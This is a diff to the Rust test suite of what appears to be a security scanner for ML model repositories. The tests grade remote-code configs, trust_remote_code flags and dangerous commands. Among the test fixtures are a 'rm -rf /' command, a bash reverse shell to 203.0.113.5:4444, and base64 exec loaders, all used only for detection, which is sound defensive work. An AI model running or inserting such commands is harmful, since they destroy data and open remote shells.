@@ -179,11 +179,18 @@ fn remote_code_is_medium_and_worse_where_it_leads_out() {
         found("x", text, "config/remote-code").severity,
         Severity::High
     );
-    let text = r#"{"auto_map": {"AutoModel": "other/repo--modeling_x.Model"}}"#;
-    assert!(
-        found("x", text, "config/remote-code")
-            .message
-            .contains("other/repo")
+    // What another repository holds is not part of what was looked at.
+    let elsewhere = r#"{"auto_map": {"AutoModel": "other/repo--modeling_x.Model"}}"#;
+    let report = named("x", elsewhere.as_bytes());
+    assert_eq!(report.worst(), Some(Severity::Medium), "{report:#?}");
+    assert!(report.gaps[0].reason.contains("other/repo"), "{report:#?}");
+    let trusted = elsewhere.replacen('{', r#"{"trust_remote_code": true, "#, 1);
+    let report = named("x", trusted.as_bytes());
+    assert_eq!(report.worst(), Some(Severity::High), "{report:#?}");
+    let here = text_of_trust("modeling_x.Model");
+    assert_eq!(
+        found("x", &here, "config/remote-code").severity,
+        Severity::Medium
     );
     let pipeline = r#"{"_class_name": "XPipeline", "unet": ["evil_module", "UNet"], "vae": ["diffusers", "AutoencoderKL"]}"#;
     assert_eq!(
@@ -191,6 +198,35 @@ fn remote_code_is_medium_and_worse_where_it_leads_out() {
         Severity::Medium
     );
     clean("x", br#"{"_class_name": "XPipeline", "vae": ["diffusers", "AutoencoderKL"], "safety_checker": [null, null]}"#);
+}
+
+fn text_of_trust(class: &str) -> String {
+    format!(r#"{{"trust_remote_code": true, "auto_map": {{"AutoModel": "{class}"}}}}"#)
+}
+
+#[test]
+fn a_configuration_that_nemo_hands_on_trusts_itself() {
+    let text = "train_ds:\n  hf_data_cfg:\n    path: owner/set\n    trust_remote_code: true\n";
+    assert_eq!(
+        found("x.yaml", text, "config/trust-honoured").severity,
+        Severity::High
+    );
+    let text = "train_ds:\n  hf_data_cfg:\n    path: owner/set\n    trust_remote_code: false\n";
+    clean("x.yaml", text.as_bytes());
+}
+
+#[test]
+fn commands_of_a_configuration() {
+    for text in [
+        r#"{"debug_command": "rm -rf /"}"#,
+        r#"{"command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]}"#,
+    ] {
+        let found = found("x.json", text, "shell/dangerous-command");
+        assert!(found.severity >= Severity::High, "{text}");
+    }
+    clean("x.json", br#"{"command": "python train.py --epochs 3"}"#);
+    // Words elsewhere are words.
+    clean("x.json", br#"{"description": "never run rm -rf / here"}"#);
 }
 
 #[test]
@@ -585,47 +621,6 @@ fn programs_that_only_could() {
             "{text}: {report:#?}"
         );
     }
-}
-
-#[test]
-fn text_that_is_handed_in_is_of_whoever_calls() {
-    let decodes = |tail: &str| {
-        let text =
-            format!("import base64\ndef load(text):\n    exec(base64.b64decode(text))\n{tail}");
-        found("module.py", &text, "python/runs-text").severity
-    };
-    assert_eq!(decodes(""), Severity::Medium);
-    for tail in [
-        "def main():\n    load('aW1wb3J0IG9z')\n",
-        "load('aW1wb3J0IG9z')\n",
-        "again = load\nagain('aW1wb3J0IG9z')\n",
-    ] {
-        assert!(decodes(tail) >= Severity::High, "{tail}");
-    }
-    // What stands in the program is no less hidden in a function, or as a default.
-    for text in [
-        "import base64\ndef load():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n",
-        "import base64\ndef load(text='aW1wb3J0IG9z'):\n    exec(base64.b64decode(text))\n",
-        "import base64\ndef load(text):\n    exec(base64.b64decode('aW1wb3J0' + text))\n",
-        "import base64\ndef load(text):\n    exec(base64.b64decode(f'aW1wb3J0{text}'))\n",
-    ] {
-        let severity = found("module.py", text, "python/runs-text").severity;
-        assert!(severity >= Severity::High, "{text}");
-    }
-}
-
-#[test]
-fn of_many_sights_the_worst_are_told() {
-    let many = "requests.get('https://x.example')\n".repeat(2_000);
-    let text = format!("import os, requests\n{many}os.system('id')\n");
-    let report = named("module.py", text.as_bytes());
-    assert!(
-        report
-            .findings
-            .iter()
-            .any(|one| one.severity == Severity::High && one.rule == "python/runs-command"),
-        "{report:#?}"
-    );
 }
 
 #[test]
